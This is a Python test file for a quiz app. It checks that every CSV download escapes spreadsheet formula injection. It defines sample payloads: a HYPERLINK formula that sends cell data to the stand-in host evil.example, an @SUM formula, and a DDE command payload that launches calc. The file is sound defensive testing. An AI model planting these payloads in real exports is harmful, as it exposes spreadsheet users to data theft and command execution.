"""CSV formula injection (finding 3 of issue 18): names, titles and answers that a spreadsheet
would run as formulas come out of every CSV download as plain text."""

import csv
import io
import re
from pathlib import Path

from sqlalchemy import select

from quizapp.exports.spreadsheet import csv_text
from quizapp.extensions import db
from quizapp.models import User
from tests.conftest import PASSWORD, login, web_login

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
EVIL_NAME = "@SUM(1+1)"
EVIL_ANSWER = "+cmd|' /C calc'!A0 stay calm, listen and say sorry"
QUIZAPP = Path(__file__).resolve().parents[2] / "quizapp"


def _risky(cell: str) -> bool:
    if cell[:1] not in ("=", "+", "-", "@"):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False  # a plain negative number


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_the_writer_defuses_formulas():
    body = csv_text(["a", "b"], [["=1+2", "-3"], ["@x", "+y"], ["fine", -5]])
    cells = _cells(body)
    assert cells[2:] == ["'=1+2", "-3", "'@x", "'+y", "fine", "-5"]


def test_every_csv_download_defuses_formulas(app, client, make_user):
    make_user("tutor1", "tutor")
    make_user("asha", "assessor")
    tutor = login(client, "tutor1")
    cohort = client.post("/api/v1/cohorts", json={"name": "C", "qualification": "TEST-Q"},
                         headers=tutor).json
    client.post(f"/api/v1/cohorts/{cohort['id']}/assessors", json={"username": "asha"},
                headers=tutor)
    quiz = client.post(f"/api/v1/cohorts/{cohort['id']}/quizzes", headers=tutor, json={
        "title": EVIL_TITLE, "units": ["TEST-Q.U1"], "questions": 1}).json
    res = client.post("/api/v1/auth/register", json={
        "username": EVIL_NAME, "password": PASSWORD, "join_code": cohort["join_code"]})
    assert res.status_code == 201, res.json
    learner = login(client, EVIL_NAME)
    session = client.post(f"/api/v1/quizzes/{quiz['id']}/start", headers=learner).json["session"]
    answered = client.post(f"/api/v1/practice/{session}/answer", headers=learner,
                           json={"text": EVIL_ANSWER, "client_id": "x1"})
    assert answered.status_code == 200
    with app.app_context():
        learner_id = db.session.scalar(select(User.id).where(User.username == EVIL_NAME))

    assessor = login(client, "asha")
    results = client.get(f"/api/v1/cohorts/{cohort['id']}/results.csv", headers=tutor)
    progress = client.get(f"/api/v1/cohorts/{cohort['id']}/progress.csv", headers=assessor)
    web = app.test_client()
    web_login(web, "asha")
    pack = web.get(f"/assessor/learners/{learner_id}/pack.csv")
    page_results = web.get(f"/tutor/cohorts/{cohort['id']}/results.csv")
    page_progress = web.get(f"/assessor/cohorts/{cohort['id']}/progress.csv")

    bodies = {"results": results, "progress": progress, "pack": pack,
              "page_results": page_results, "page_progress": page_progress}
    for name, res in bodies.items():
        assert res.status_code == 200, name
        cells = _cells(res.get_data(as_text=True))
        assert [c for c in cells if _risky(c)] == [], name
    results_cells = _cells(results.get_data(as_text=True))
    assert "'" + EVIL_TITLE in results_cells and "'" + EVIL_NAME in results_cells
    assert "'" + EVIL_NAME in _cells(progress.get_data(as_text=True))
    # defusedcsv also escapes the pipe of a DDE payload
    assert any(c.startswith("'+cmd\\|") for c in _cells(pack.get_data(as_text=True)))


def test_no_csv_is_written_outside_the_one_writer():
    writers = [p.relative_to(QUIZAPP).as_posix() for p in QUIZAPP.rglob("*.py")
               if re.search(r"^\s*(import csv|from csv |import defusedcsv|from defusedcsv)",
                            p.read_text(), re.M)]
    assert writers == ["exports/spreadsheet.py"]
